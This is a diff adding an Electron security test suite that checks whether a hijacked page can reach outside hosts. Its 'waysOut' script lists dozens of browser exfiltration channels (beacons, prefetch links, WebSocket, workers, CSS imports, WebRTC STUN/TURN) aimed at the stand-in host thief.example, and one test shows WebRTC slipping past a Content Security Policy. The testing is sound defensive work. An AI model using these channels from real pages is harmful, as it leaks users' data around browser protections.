@@ -1,0 +1,229 @@
+import { createSocket } from "node:dgram";
+import { readFile, writeFile } from "node:fs/promises";
+import { type AddressInfo, createServer as createTcpServer } from "node:net";
+import { join } from "node:path";
+import { type ElectronApplication, _electron as electron } from "playwright-core";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { catchOpened } from "./support/browser.ts";
+import { ownEnvironment, type Program, removeFolder, runtime, startProgram, userData } from "./support/program.ts";
+
+/** What a page that was taken over could send out of this computer, and by which way. */
+
+let folder = "";
+let program: Program;
+/** An Electron without the program: what does nothing there proves nothing here. */
+let bare: ElectronApplication;
+beforeAll(async () => {
+  folder = await userData();
+  program = await startProgram(folder);
+  await program.page.getByRole("button", { name: "Try the demo airline" }).waitFor();
+  await catchOpened(program.app);
+  bare = await startBare();
+});
+afterAll(async () => {
+  bare.process().kill("SIGKILL");
+  await program.close();
+  await removeFolder(folder);
+});
+
+async function startBare(): Promise<ElectronApplication> {
+  const main = join(folder, "main.cjs");
+  await writeFile(main, `require("electron").app.on("window-all-closed", () => undefined);`);
+  await writeFile(join(folder, "package.json"), JSON.stringify({ main: "main.cjs" }));
+  const { executable, args } = runtime();
+  const flags = [...args.filter((each) => each.startsWith("--")), `--user-data-dir=${join(folder, "bare")}`];
+  const env = ownEnvironment();
+  return electron.launch({ executablePath: executable, args: [...flags, "-r", main, folder], env, timeout: 60_000 });
+}
+
+/** Runs it in a page that has a Content Security Policy, and nothing else to hold it back. */
+const inBarePage = (code: string): Promise<void> =>
+  bare.evaluate(async ({ app, BrowserWindow }, script) => {
+    await app.whenReady();
+    const window = new BrowserWindow({ show: false });
+    window.webContents.setWindowOpenHandler(() => ({ action: "deny" }));
+    // A page that leaves ends its script without a word.
+    window.webContents.on("will-navigate", (event) => event.preventDefault());
+    const rule = "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\"><body>";
+    await window.loadURL(`data:text/html,${encodeURIComponent(rule)}`);
+    await window.webContents.executeJavaScript(script).catch(() => undefined);
+    window.destroy();
+  }, code);
+
+/** Has a page ask servers for its own address, by UDP and by TCP, as WebRTC does before it sends. */
+const reachOut = (udpPort: number, tcpPort: number) => `(async () => {
+  try {
+    const turn = { urls: "turn:127.0.0.1:${tcpPort}?transport=tcp", username: "a", credential: "b" };
+    const connection = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udpPort}" }, turn] });
+    connection.createDataChannel("out");
+    await connection.setLocalDescription(await connection.createOffer());
+    await new Promise((resolve) => setTimeout(resolve, 4000));
+    connection.close();
+  } catch {}
+})()`;
+
+test("WebRTC is no way out of the page, though it is one out of a page that has a Content Security Policy alone", async () => {
+  const heard = { udp: 0, tcp: 0 };
+  const socket = createSocket("udp4");
+  socket.on("message", () => {
+    heard.udp++;
+  });
+  await new Promise<void>((resolve) => socket.bind(0, "127.0.0.1", resolve));
+  const server = createTcpServer((connection) => {
+    heard.tcp++;
+    connection.on("error", () => undefined).destroy();
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const script = reachOut(socket.address().port, (server.address() as AddressInfo).port);
+  await program.page.evaluate(script);
+  expect(heard).toEqual({ udp: 0, tcp: 0 });
+  await inBarePage(script);
+  expect(heard.udp).toBeGreaterThan(0);
+  expect(heard.tcp).toBeGreaterThan(0);
+  socket.close();
+  server.close();
+});
+
+/** Each way out names a host of its own below it, so that a leak says which it was. */
+const thiefHost = "thief.example";
+
+/** Everything a page of Chromium 130 can do that asks for a host without asking a person. */
+const waysOut = `(async () => {
+  const to = (way) => "https://" + way + ".${thiefHost}/";
+  const attempt = (way, go) => { try { Promise.resolve(go(to(way))).catch(() => undefined); } catch {} };
+  const element = (name, properties) => (url) => {
+    const made = document.createElement(name);
+    for (const [key, value] of Object.entries(properties(url))) made.setAttribute(key, value);
+    document.body.append(made);
+    return made;
+  };
+  for (const rel of ["dns-prefetch", "preconnect", "prefetch", "preload", "modulepreload", "prerender", "stylesheet", "icon", "manifest", "search"])
+    attempt("link-" + rel, element("link", (href) => ({ rel, href, as: "fetch" })));
+  for (const [name, key] of [["img", "src"], ["iframe", "src"], ["script", "src"], ["object", "data"], ["embed", "src"], ["audio", "src"], ["video", "poster"], ["track", "src"], ["source", "src"]])
+    attempt(name, element(name, (url) => ({ [key]: url })));
+  attempt("anchor-ping", (url) => element("a", () => ({ href: "#", ping: url }))(url).click());
+  attempt("anchor-blank", (url) => element("a", () => ({ href: url, target: "_blank", rel: "opener" }))(url).click());
+  attempt("anchor-named", (url) => element("a", () => ({ href: url, target: "other" }))(url).click());
+  attempt("anchor-download", (url) => element("a", () => ({ href: url, download: "x" }))(url).click());
+  attempt("form", (url) => element("form", () => ({ action: url, method: "post", target: "_blank" }))(url).submit());
+  attempt("form-self", (url) => element("form", () => ({ action: url }))(url).submit());
+  attempt("refresh", (url) => element("meta", () => ({ "http-equiv": "refresh", content: "0;url=" + url }))(url));
+  attempt("open", (url) => void open(url));
+  attempt("open-noopener", (url) => void open(url, "_blank", "noopener"));
+  attempt("location", (url) => { location.href = url; });
+  attempt("fetch", (url) => fetch(url, { mode: "no-cors" }));
+  attempt("fetch-keepalive", (url) => fetch(url, { mode: "no-cors", keepalive: true }));
+  attempt("beacon", (url) => navigator.sendBeacon(url, "x"));
+  attempt("xhr", (url) => { const request = new XMLHttpRequest(); request.open("GET", url); request.send(); });
+  attempt("socket", (url) => new WebSocket(url.replace("https", "wss")));
+  attempt("events", (url) => new EventSource(url));
+  attempt("transport", (url) => new WebTransport(url).ready);
+  attempt("worker", (url) => new Worker(url));
+  attempt("shared-worker", (url) => new SharedWorker(url));
+  attempt("service-worker", (url) => navigator.serviceWorker.register(url));
+  attempt("import", (url) => import(url));
+  attempt("font", (url) => new FontFace("x", "url(" + url + ")").load());
+  attempt("style", (url) => new CSSStyleSheet().replace("@import url(" + url + ")"));
+  attempt("sheet", (url) => { const sheet = new CSSStyleSheet(); sheet.replaceSync("body { background-image: url(" + url + ") }"); document.adoptedStyleSheets.push(sheet); });
+  attempt("speculation", (url) => {
+    const script = element("script", () => ({ type: "speculationrules" }))(url);
+    script.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [url] }], prerender: [{ source: "list", urls: [url] }] });
+  });
+  for (const [way, server] of [["stun", "stun:"], ["turn", "turn:"], ["turn-tcp", "turn:"], ["turns", "turns:"]])
+    attempt(way, async () => {
+      const urls = server + way + ".${thiefHost}:3478" + (way === "turn-tcp" ? "?transport=tcp" : "");
+      const connection = new RTCPeerConnection({ iceServers: [{ urls, username: "a", credential: "b" }] });
+      connection.createDataChannel("out");
+      await connection.setLocalDescription(await connection.createOffer());
+    });
+  attempt("candidate", async (url) => {
+    const connection = new RTCPeerConnection();
+    connection.createDataChannel("out");
+    const offer = await connection.createOffer();
+    await connection.setLocalDescription(offer);
+    const other = new RTCPeerConnection();
+    await other.setRemoteDescription(offer);
+    await other.setLocalDescription(await other.createAnswer());
+    await connection.setRemoteDescription(other.localDescription);
+    await connection.addIceCandidate({ candidate: "candidate:1 1 udp 2122260223 candidate.${thiefHost} 9 typ host", sdpMid: "0" });
+  });
+  await new Promise((resolve) => setTimeout(resolve, 4000));
+})()`;
+
+/** The ways by which the thief's names reached Chromium's network service while `work` ran. */
+async function lookedUp(app: ElectronApplication, work: () => Promise<unknown>): Promise<string[]> {
+  const file = join(folder, "net.json");
+  await app.evaluate(async ({ app: own, session }, path) => {
+    await own.whenReady();
+    await session.defaultSession.netLog.startLogging(path);
+  }, file);
+  await work();
+  await app.evaluate(({ session }) => session.defaultSession.netLog.stopLogging());
+  return [...new Set((await readFile(file, "utf8")).match(/[a-z-]+(?=\.thief\.example)/g))].toSorted();
+}
+
+test("no name is looked up for the page: a name alone could carry what the page has seen", async () => {
+  expect(await lookedUp(program.app, () => program.page.evaluate(waysOut))).toEqual([]);
+  expect(await lookedUp(bare, () => inBarePage(waysOut))).toEqual(
+    expect.arrayContaining(["link-dns-prefetch", "stun", "turn-tcp", "turns"]),
+  );
+  await program.page.reload();
+  await program.page.getByRole("button", { name: "Try the demo airline" }).waitFor();
+});
+
+/** A call of the page's own script; after six seconds nothing is left of the gesture that Playwright gives it. */
+const call = (name: string, args: unknown, afterMs = 0): Promise<unknown> =>
+  program.page.evaluate(
+    async ([called, given, ms]) => {
+      await new Promise((resolve) => setTimeout(resolve, ms));
+      const { contrail } = globalThis as unknown as {
+        contrail: { call(name: string, args: unknown): Promise<unknown> };
+      };
+      return contrail.call(called, given);
+    },
+    [name, args, afterMs] as const,
+  );
+const opened = () => program.app.evaluate(() => Reflect.get(globalThis, "opened") as string[]);
+
+test("the page opens nothing in the browser: not by itself, and after a press only what the program has named", async () => {
+  // The ways of the test before would have opened it, and these.
+  expect(await opened()).toEqual([]);
+  const { value: airline } = (await call("demo.open", undefined)) as { value: { baseUrl: string } };
+  const own = new URL(airline.baseUrl).origin;
+  const stolen = ["https://thief.example/?what=it+saw", `${own}/?what=it+saw`, `${own}.thief.example/`];
+  for (const url of stolen)
+    expect(await call("shell.openExternal", { url })).toMatchObject({ ok: false, error: { code: "not_opened" } });
+  const withoutPress = await call("shell.openExternal", { url: own }, 6000);
+  expect(withoutPress).toMatchObject({ ok: false, error: { code: "no_gesture" } });
+  expect(await opened()).toEqual([]);
+  expect(await call("shell.openExternal", { url: own })).toMatchObject({ ok: true });
+  expect(await opened()).toEqual([`${own}/`]);
+});
+
+test("the program asks no host for the page that the pilot has not just asked for", async () => {
+  const heard: string[] = [];
+  const server = createTcpServer((connection) => {
+    heard.push("asked");
+    connection.on("error", () => undefined).destroy();
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const { port } = server.address() as AddressInfo;
+  const address = `http://127.0.0.1:${port}`;
+  const { value: airline } = (await call("demo.open", undefined)) as { value: { id: string } };
+  const asks = {
+    "airlines.check": { address },
+    "airlines.add": { name: "A", address },
+    "airlines.testConnection": { airlineId: airline.id },
+    "session.signIn": { airlineId: airline.id, username: "what it saw", password: "x" },
+    "session.openBrowser": { airlineId: airline.id, throughPage: false },
+    "session.reopenBrowser": undefined,
+    "settings.set": { simulatorPlace: { host: "127.0.0.1", port } },
+  };
+  const answers = await Promise.all(Object.entries(asks).map(([name, args]) => call(name, args, 6000)));
+  expect(answers).toEqual(answers.map(() => expect.objectContaining({ ok: false })));
+  expect(answers).toMatchObject(answers.map(() => ({ error: { code: "no_gesture" } })));
+  expect(heard).toEqual([]);
+  await call("airlines.check", { address });
+  expect(heard).not.toEqual([]);
+  server.close();
+});
